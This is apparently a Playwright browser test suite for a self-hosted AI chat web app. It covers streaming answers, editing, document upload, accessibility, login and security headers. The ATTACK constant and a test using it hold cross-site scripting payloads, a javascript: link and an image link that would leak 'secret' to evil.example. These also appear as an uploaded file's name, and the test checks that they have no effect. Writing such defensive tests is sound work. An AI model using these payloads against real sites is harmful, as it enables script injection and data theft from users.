"""The chat page in a real browser, against the real server; only the models behind it follow a script."""

import os
import re
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tests.page_server import PageServer, page_server

playwright = pytest.importorskip("playwright.sync_api", reason="Playwright is not installed")
expect = playwright.expect
expect.set_options(timeout=30_000)

CHROMIUM = Path("/usr/bin/chromium")
MAX_FIRST_LOAD = 150_000
PATIENCE_MS = 120_000
NOTES = "Notes on the flat\n\nThe rent is 840 euros a month.\n"
ATTACK = '<img src=x onerror="window.__xss=1"> [x](javascript:window.__xss=1) ![p](https://evil.example/?q=secret)'
SETTINGS_CLOSE = "#settings [aria-label=Close]"

Open = Callable[..., "playwright.Page"]


@pytest.fixture(scope="module")
def served(session_home: Path) -> Iterator[PageServer]:
    with page_server(pause_s=0.005) as running:
        yield running


@pytest.fixture(scope="module")
def browser() -> Iterator["playwright.Browser"]:
    if not CHROMIUM.exists():
        pytest.skip(f"there is no {CHROMIUM}")
    with playwright.sync_playwright() as started:
        yield started.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])


@pytest.fixture
def open_page(browser, served) -> Iterator[Open]:
    """Opens the page; in the end, nothing may have gone wrong in it and no request may have left the machine."""
    contexts, problems = [], []

    def opened(path: str = "/", width: int = 1280, **options: object):
        context = browser.new_context(viewport={"width": width, "height": 844}, **options)
        contexts.append(context)
        context.set_default_timeout(PATIENCE_MS)
        context.on("request", lambda request: problems.append(request.url) if not is_ours(request.url) else None)
        context.on("weberror", lambda error: problems.append(str(error.error)))
        context.on("console", lambda message: problems.append(message.text) if is_violation(message.text) else None)
        page = context.new_page()
        page.goto(served.url + path)
        page.wait_for_selector("#menus button, form[action='/login']")
        return page

    def is_ours(url: str) -> bool:
        return url.startswith((f"{served.url}/", "data:", "blob:"))

    yield opened
    for context in contexts:
        context.close()
    assert problems == []


def is_violation(text: str) -> bool:
    return "Content Security Policy" in text or "TrustedHTML" in text


@pytest.fixture
def page(open_page) -> "playwright.Page":
    return open_page()


def ask(page, question: str) -> None:
    page.fill("#box", question)
    page.press("#box", "Enter")
    expect(page.locator(".asked .text").last).to_have_text(question)


def wait_for_answer(page) -> "playwright.Locator":
    expect(page.locator("#transcript")).to_have_attribute("aria-busy", "false", timeout=PATIENCE_MS)
    return page.locator(".answered").last


def asked(page, question: str) -> "playwright.Locator":
    ask(page, question)
    return wait_for_answer(page)


def conversation(page, served: PageServer) -> dict:
    return served.http.get("/api/conversations/" + page.url.rpartition("/")[2]).json()


def test_the_first_load_is_small_and_stays_here(open_page, served):
    page = open_page("/login")
    loaded = []
    page.context.on("requestfinished", lambda request: loaded.append(request))
    page.goto(f"{served.url}/")
    page.wait_for_selector(".entry, .none")
    assert len(loaded) > 10
    sizes = [request.sizes() for request in loaded]
    assert sum(size["responseBodySize"] + size["responseHeadersSize"] for size in sizes) < MAX_FIRST_LOAD
    unpacked = sum(len(request.response().body()) for request in loaded if "/api/" not in request.url)
    assert unpacked < MAX_FIRST_LOAD


def test_files_are_cached_by_content_and_strictly_fenced(served):
    shown = served.http.get("/")
    policy = shown.headers["Content-Security-Policy"]
    assert policy.startswith("default-src 'none'; script-src 'self'; style-src 'self'")
    assert "unsafe" not in policy
    assert not re.search(r"<style|\sstyle=|\son\w+=|<script(?! (type=\"module\" )?src)", shown.text)
    assert served.http.get("/", headers={"If-None-Match": shown.headers["ETag"]}).status_code == 304
    assert served.http.get("/", headers={"Accept-Encoding": "identity"}).text == shown.text
    script = re.search(r"/static/\w+/app\.js", shown.text)[0]
    assert "immutable" in served.http.get(script).headers["Cache-Control"]
    assert "immutable" not in served.http.get("/static/old/app.js").headers["Cache-Control"]
    for path in ("/static/old/nothing.js", "/static/old/..%2Fpage.py", "/static/../page.py", "/static/app.js"):
        assert served.http.get(path).status_code == 404


def test_an_answer_streams_and_is_announced_quietly(page):
    ask(page, "prose 12")
    log, status = page.locator("#transcript"), page.locator("#status")
    expect(log).to_have_attribute("aria-busy", "true")
    expect(log).to_have_attribute("aria-live", "off")
    expect(status).to_have_text("Generating")
    expect(page.locator(".prose")).to_contain_text("Paragraph 2 tells")
    expect(page).to_have_title("● prose 12 · Homegrown")
    answer = wait_for_answer(page)
    expect(status).to_have_text("Response complete")
    expect(answer.locator(".prose p")).to_have_count(12)
    expect(answer).to_contain_text("Generated by AI · ")
    expect(answer).to_contain_text(re.compile(r"\d+ tokens · [\d.]+/s · first after"))
    expect(page).to_have_title("prose 12 · Homegrown")
    assert page.evaluate("document.querySelector('#scroll').scrollTop") > 0


def test_markdown_and_code_with_a_copy_button(open_page):
    page = open_page(permissions=["clipboard-read", "clipboard-write"])
    answer = asked(page, "long")
    expect(answer.locator(".code .h-kn").first).to_have_text("from")
    answer.locator(".code .copy").last.click()
    assert page.evaluate("navigator.clipboard.readText()").startswith("$ python count.py")
    expect(answer.locator("table td").first).to_have_text("Mercury")
    answer.get_by_label("Copy the answer").click()
    assert page.evaluate("navigator.clipboard.readText()").startswith("# A long answer")


def test_a_reload_and_a_second_tab_join_the_answer_and_stop_really_stops(page, served):
    ask(page, "wait")
    expect(page.locator(".prose")).to_contain_text("and and and")
    page.reload()
    expect(page.locator("#stop")).to_be_visible()
    second = page.context.new_page()
    second.goto(page.url)
    expect(second.locator(".prose")).to_contain_text("and and and")
    assert served.model.running == 1
    second.keyboard.press("Escape")
    for tab in (page, second):
        expect(wait_for_answer(tab)).to_contain_text("You stopped this answer.")
    assert served.model.running == 0
    assert conversation(page, served)["messages"][-1]["state"] == "stopped"


def test_another_tab_sees_what_is_asked_here(page):
    asked(page, "first question")
    second = page.context.new_page()
    second.goto(page.url)
    expect(second.locator(".asked")).to_have_count(1)
    asked(page, "second question")
    expect(second.locator(".asked .text").last).to_have_text("second question")


def test_answering_again_and_editing_make_branches(page, served):
    first = asked(page, "one")
    first.get_by_label("Answer again").click()
    expect(page.locator(".answered .pager")).to_have_text("2/2")
    wait_for_answer(page)
    page.locator(".answered").get_by_label("Earlier version").click()
    expect(page.locator(".answered .pager")).to_have_text("1/2")
    question = page.locator(".asked")
    question.hover()
    question.get_by_label("Edit").click()
    page.get_by_label("Edit your message").fill("uno")
    page.keyboard.press("Enter")
    expect(page.locator(".asked .text")).to_have_text("uno")
    expect(page.locator(".asked .pager")).to_have_text("2/2")
    wait_for_answer(page)
    page.locator(".asked").get_by_label("Earlier version").click()
    expect(page.locator(".asked .text")).to_have_text("one")
    expect(page.locator(".answered .pager")).to_have_text("2/2")
    page.wait_for_load_state("networkidle")
    page.reload()
    expect(page.locator(".asked .text")).to_have_text("one")
    assert len(conversation(page, served)["messages"]) == 5


def test_tool_steps_and_pictures(page):
    answer = asked(page, "calculate 17 * 23")
    step = answer.locator("details.step")
    expect(step.locator("summary")).to_contain_text("Calculated 17 * 23")
    expect(step.locator(".outcome")).to_have_text("391")
    expect(step.locator("dl")).not_to_be_visible()
    step.locator("summary").click()
    expect(step.locator("dl")).to_contain_text('"expression": "17 * 23"')
    answer = asked(page, "draw a red cat")
    picture = answer.get_by_alt_text("a red cat")
    expect(picture).to_be_visible()
    assert picture.evaluate("image => image.decode().then(() => image.naturalWidth)") > 0
    with page.expect_download() as download:
        answer.get_by_label("Download the picture").click()
    assert download.value.suggested_filename == "a-red-cat.png"
    answer.get_by_label("Draw again").click()
    expect(page.locator(".answered").last.locator(".pager")).to_have_text("2/2")
    expect(wait_for_answer(page).get_by_alt_text("a red cat")).to_be_visible()


def test_documents_are_added_found_cited_and_deleted(page, tmp_path):
    notes = tmp_path / "notes.txt"
    notes.write_text(NOTES)
    page.click("#attach")
    page.set_input_files("#documents input[type=file]", notes)
    expect(page.locator(".document .name")).to_have_text("notes.txt")
    page.locator("#documents").get_by_label("Close").click()
    answer = asked(page, "search for the rent")
    expect(answer.locator(".source").last).to_contain_text("notes.txt")
    dropped = page.evaluate_handle(
        "() => { const data = new DataTransfer(); data.items.add(new File(['Second.'], 'second.md')); return data; }"
    )
    page.dispatch_event("body", "dragover", {"dataTransfer": dropped})
    expect(page.locator("#dropping")).to_be_visible()
    page.dispatch_event("body", "drop", {"dataTransfer": dropped})
    expect(page.locator(".document")).to_have_count(2)
    page.get_by_label("Delete second.md").click()
    expect(page.locator(".document")).to_have_count(1)
    page.get_by_role("button", name="Undo").click()
    expect(page.locator(".document")).to_have_count(2)


def test_a_thumb_a_better_answer_and_consent(page, served):
    answer = asked(page, "something")
    answer.get_by_label("Bad answer").click()
    expect(answer.get_by_label("Bad answer")).to_have_attribute("aria-pressed", "true")
    answer.get_by_label("A better answer (optional)").fill("Something better.")
    answer.get_by_label("may be used to train").check()
    answer.get_by_role("button", name="Save").click()
    expect(answer.locator("form")).to_have_count(0)
    given = conversation(page, served)["messages"][-1]["feedback"]
    assert given == {"thumb": -1, "correction": "Something better.", "consent": True}
    page.reload()
    expect(page.get_by_label("Bad answer")).to_have_attribute("aria-pressed", "true")


def test_the_sidebar_finds_renames_exports_and_deletes(page):
    asked(page, "about zebras")
    entry = page.locator(".entry.current")
    menu = entry.locator("button").first
    menu.click()
    page.get_by_role("menuitem", name="Rename").click()
    page.get_by_label("Name of the conversation").fill("Okapis")
    page.keyboard.press("Enter")
    expect(page).to_have_title("Okapis · Homegrown")
    page.fill("#search", "okapi")
    expect(page.locator(".entry")).to_have_count(1)
    for kind, suffix in (("Markdown", ".md"), ("JSON", ".json")):
        menu.click()
        with page.expect_download() as download:
            page.get_by_role("menuitem", name=f"Export as {kind}").click()
        assert Path(download.value.suggested_filename).suffix == suffix
        assert "about zebras" in download.value.path().read_text()
    menu.click()
    page.get_by_role("menuitem", name="Delete").click()
    expect(page.locator(".entry")).to_have_count(0)
    expect(page.locator("#welcome")).to_be_visible()
    page.get_by_role("button", name="Undo").click()
    expect(page.locator(".asked .text")).to_have_text("about zebras")
    menu.click()
    page.get_by_role("menuitem", name="Delete").click()
    page.reload()  # leaving makes it final
    page.fill("#search", "okapi")
    expect(page.locator(".none")).to_have_text("Nothing found.")


def test_model_and_settings_reach_the_model(page, served):
    page.get_by_label("Model: ").click()
    page.keyboard.press("End")
    page.keyboard.press("Enter")
    expect(page.get_by_label("Model: words")).to_be_focused()
    page.click("#open-settings")
    page.get_by_label("Temperature").first.fill("0.3")
    page.get_by_label("Seed").fill("7")
    page.keyboard.press("Tab")
    page.click(SETTINGS_CLOSE)
    answer = asked(page, "how warm")
    expect(answer).to_contain_text("Generated by AI · words")
    assert (served.model.asked[-1]["temperature"], served.model.asked[-1]["seed"]) == (0.3, 7)


def test_keys(page):
    expect(page.locator("#box")).to_be_focused()
    page.keyboard.type("first")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("second")
    assert page.input_value("#box") == "first\nsecond"
    page.keyboard.press("Enter")
    expect(page.locator(".asked .text")).to_have_text("first\nsecond")
    wait_for_answer(page)
    page.locator("#scroll").focus()
    page.keyboard.press("/")
    expect(page.locator("#box")).to_be_focused()
    assert page.input_value("#box") == ""
    page.get_by_label("Persona: ").press("ArrowDown")
    expect(page.get_by_role("menuitemradio").first).to_be_focused()
    page.keyboard.press("ArrowDown")
    expect(page.get_by_role("menuitemradio").nth(1)).to_be_focused()
    page.keyboard.press("Escape")
    expect(page.get_by_role("menu")).to_have_count(0)
    expect(page.get_by_label("Persona: ")).to_be_focused()


def test_what_goes_wrong_is_said(page):
    ask(page, "refuse this")
    expect(wait_for_answer(page).locator(".remark.bad")).to_contain_text("This is refused.")
    ask(page, "fail")
    expect(wait_for_answer(page).locator(".remark.bad")).to_contain_text("Try again")
    page.context.set_offline(True)
    page.evaluate("dispatchEvent(new Event('offline'))")
    expect(page.locator("#banner")).to_contain_text("connection to the server is lost")
    page.fill("#box", "kept")
    page.press("#box", "Enter")
    expect(page.locator(".toast")).to_contain_text("cannot be reached")
    expect(page.locator("#box")).to_have_value("kept")
    page.context.set_offline(False)
    expect(page.locator("#banner")).to_be_hidden()


def test_hostile_words_do_nothing(page, tmp_path):
    asked(page, ATTACK)
    expect(page.locator("a.elsewhere")).to_have_text("p")
    hostile = tmp_path / '<img src=x onerror="window.__xss=1">.txt'
    hostile.write_text(ATTACK)
    page.click("#open-documents")
    page.set_input_files("#documents input[type=file]", hostile)
    expect(page.locator(".document")).not_to_have_count(0)
    page.locator("#documents").get_by_label("Close").click()
    asked(page, "search for secret")
    page.reload()
    expect(page.locator(".answered")).to_have_count(2)
    assert page.evaluate("window.__xss") is None


def test_light_dark_and_the_switch(open_page):
    page = open_page(color_scheme="dark")
    root = page.locator("html")
    expect(root).to_have_attribute("data-theme", "dark")
    page.click("#switch-theme")
    expect(root).to_have_attribute("data-theme", "light")
    page.reload()
    expect(root).to_have_attribute("data-theme", "light")


def test_on_a_phone(open_page):
    page = open_page(width=390, is_mobile=True, has_touch=True)
    expect(page.locator("#sidebar")).to_be_hidden()
    page.tap("#show-sidebar")
    expect(page.locator("#sidebar")).to_be_visible()
    page.tap("#new-chat")
    expect(page.locator("#sidebar")).to_be_hidden()
    asked(page, "long")
    assert page.evaluate("document.documentElement.scrollWidth") == 390


def test_logging_in_and_out(browser):
    with page_server(api_key="a key of the owner") as locked:
        page = browser.new_page()
        page.goto(locked.url)
        expect(page).to_have_url(f"{locked.url}/login")
        page.get_by_label("Key").fill("a wrong key")
        page.keyboard.press("Enter")
        expect(page.get_by_role("alert")).to_contain_text("This key is wrong")
        page.get_by_label("Key").fill("a key of the owner")
        page.keyboard.press("Enter")
        page.wait_for_selector("#menus button")
        expect(asked(page, "hello")).to_contain_text("You said: hello.")
        page.get_by_role("button", name="Log out").click()
        expect(page).to_have_url(f"{locked.url}/login")
        page.context.close()


@pytest.fixture(scope="module")
def axe(tmp_path_factory: pytest.TempPathFactory) -> str:
    folder = tmp_path_factory.mktemp("axe")
    command = ["npm", "install", "--silent", "--no-audit", "--no-fund", "--ignore-scripts", "axe-core@4"]
    try:
        subprocess.run(command, cwd=folder, check=True, capture_output=True, timeout=120, env=os.environ)
    except (OSError, subprocess.SubprocessError) as error:
        pytest.skip(f"axe-core cannot be installed: {error}")
    return (folder / "node_modules/axe-core/axe.min.js").read_text()


def serious(page, axe: str) -> list[str]:
    page.evaluate(axe)
    page.evaluate("Promise.all(document.getAnimations().map((one) => one.finished.catch(() => null)))")
    found = page.evaluate("axe.run(document, {resultTypes: ['violations']})")
    return [
        f"{finding['id']}: {node['html'][:200]} {node['failureSummary']}"
        for finding in found["violations"]
        if finding["impact"] in ("serious", "critical")
        for node in finding["nodes"]
    ]


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [390, 1280])
def test_axe_finds_nothing_serious(open_page, axe, scheme, width):
    page = open_page(width=width, color_scheme=scheme, reduced_motion="reduce")
    assert serious(page, axe) == []
    asked(page, "long")
    asked(page, "calculate 6*7").locator("summary").click()
    asked(page, "draw a red cat")
    asked(page, "refuse").get_by_label("Answer again").click()
    wait_for_answer(page)
    page.locator(".answered").first.get_by_label("Bad answer").click()
    page.locator(".answered form").wait_for()
    assert serious(page, axe) == []
    page.locator(".menu-button").first.click()
    assert serious(page, axe) == []
    page.keyboard.press("Escape")
    if width == 390:
        page.click("#show-sidebar")
        assert serious(page, axe) == []
    page.click("#open-settings")
    page.locator(".usage").wait_for()
    assert serious(page, axe) == []
    page.click(SETTINGS_CLOSE)
    page.click("#open-documents")
    page.locator("#documents [role=listitem]").first.wait_for()
    assert serious(page, axe) == []


def test_axe_finds_nothing_serious_on_the_login(open_page, axe):
    assert serious(open_page("/login"), axe) == []
